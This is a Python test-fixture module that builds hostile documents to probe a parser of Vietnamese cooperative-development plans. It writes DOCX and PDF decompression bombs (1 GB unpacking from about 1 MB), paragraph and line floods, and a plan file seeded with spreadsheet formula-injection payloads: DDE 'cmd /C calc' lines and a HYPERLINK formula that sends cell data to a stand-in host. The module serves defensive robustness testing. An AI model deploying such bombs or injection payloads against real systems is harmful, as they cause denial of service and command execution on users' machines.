"""Hostile documents built for real in a folder: bombs, huge page counts, formula cells, clause floods.

Used by the tests and by scripts/probe_robustness.py. Everything is written in streaming fashion so that
building a file never needs the memory that parsing it naively would.
"""

from __future__ import annotations

import zipfile
import zlib
from pathlib import Path

import matplotlib

FONT = Path(matplotlib.__file__).parent / "mpl-data" / "fonts" / "ttf" / "DejaVuSans.ttf"

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"'
    ' Target="word/document.xml"/></Relationships>'
)
_DOC_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    "<w:p><w:r><w:t>KẾ HOẠCH phát triển hợp tác xã trên địa bàn tỉnh, các nhiệm vụ như sau.</w:t></w:r></w:p>"
)
_DOC_TAIL = "</w:body></w:document>"


def _docx(path: Path, body_chunks, level: int = 9) -> Path:  # type: ignore[no-untyped-def]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _RELS)
        with archive.open("word/document.xml", "w", force_zip64=True) as handle:
            handle.write(_DOC_HEAD.encode())
            for chunk in body_chunks:
                handle.write(chunk)
            handle.write(_DOC_TAIL.encode())
    return path


def empty_paragraph_docx(path: Path, paragraphs: int = 17_000_000) -> Path:
    """A small .docx holding millions of empty paragraphs (the issue's 154 KB file had 17 M)."""
    block = b"<w:p/>" * 100_000
    full, rest = divmod(paragraphs, 100_000)
    return _docx(path, [*(block for _ in range(full)), b"<w:p/>" * rest])


def zip_bomb_docx(path: Path, unpacked_bytes: int = 1_000_000_000) -> Path:
    """A .docx whose one paragraph unpacks to `unpacked_bytes` of text (1 GB -> about 1 MB on disk)."""
    chunk = b"A" * 10_000_000
    full, rest = divmod(unpacked_bytes, len(chunk))
    chunks = [b"<w:p><w:r><w:t>", *(chunk for _ in range(full)), b"A" * rest, b"</w:t></w:r></w:p>"]
    return _docx(path, chunks)


def _pdf_objects(objects: list[bytes]) -> bytes:
    """A PDF file from numbered object bodies (object 1 is the catalog), with a correct xref table."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def flate_bomb_pdf(path: Path, unpacked_bytes: int = 1_000_000_000) -> Path:
    """A one-page PDF whose content stream inflates to `unpacked_bytes` (1 GB -> about 1 MB on disk)."""
    compressor = zlib.compressobj(9)
    chunk = b" " * 10_000_000
    full, rest = divmod(unpacked_bytes, len(chunk))
    parts = [compressor.compress(b"BT /F1 12 Tf 72 712 Td (Ke hoach) Tj ET\n")]
    parts += [compressor.compress(chunk) for _ in range(full)]
    parts += [compressor.compress(b" " * rest), compressor.flush()]
    stream = b"".join(parts)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    path.write_bytes(_pdf_objects(objects))
    return path


def text_pdf(path: Path, pages: int = 500, lines_per_page: int = 40) -> Path:
    """A real text PDF of `pages` pages of numbered Vietnamese items (500 pages -> about 1 MB)."""
    from fpdf import FPDF

    pdf = FPDF()
    pdf.add_font("dejavu", fname=str(FONT))
    pdf.set_font("dejavu", size=9)
    pdf.set_auto_page_break(False)
    item = 0
    for page in range(pages):
        pdf.add_page()
        pdf.set_y(15)
        for _ in range(lines_per_page):
            item += 1
            pdf.cell(0, 6, f"{item}. Hợp tác xã số {item} thực hiện nhiệm vụ hỗ trợ thành viên trang {page + 1}.",
                     new_x="LMARGIN", new_y="NEXT")
    pdf.output(str(path))
    return path


def dash_lines_txt(path: Path, lines: int = 100_000) -> Path:
    """A text file of a title and `lines` near-empty bullet lines "- a"."""
    path.write_text("KẾ HOẠCH phát triển hợp tác xã năm 2017 trên địa bàn tỉnh, như sau:\n" + "- a\n" * lines,
                    encoding="utf-8")
    return path


FORMULAS = ("=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"Bấm vào đây\")", "=cmd|' /C calc'!A0",
            "+SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0")


def formula_plan_txt(path: Path) -> Path:
    """A plan whose tasks begin with spreadsheet formulas: the facts export must neutralise them."""
    items = "\n".join(f"- {formula} bố trí kinh phí hỗ trợ hợp tác xã năm 2018;" for formula in FORMULAS)
    path.write_text(
        "ỦY BAN NHÂN DÂN TỈNH HÒA BÌNH\nSố: 77/KH-UBND\nKẾ HOẠCH\nHỗ trợ hợp tác xã năm 2018\n"
        "I. NHIỆM VỤ\n1. Sở Tài chính:\n" + items + "\n", encoding="utf-8")
    return path
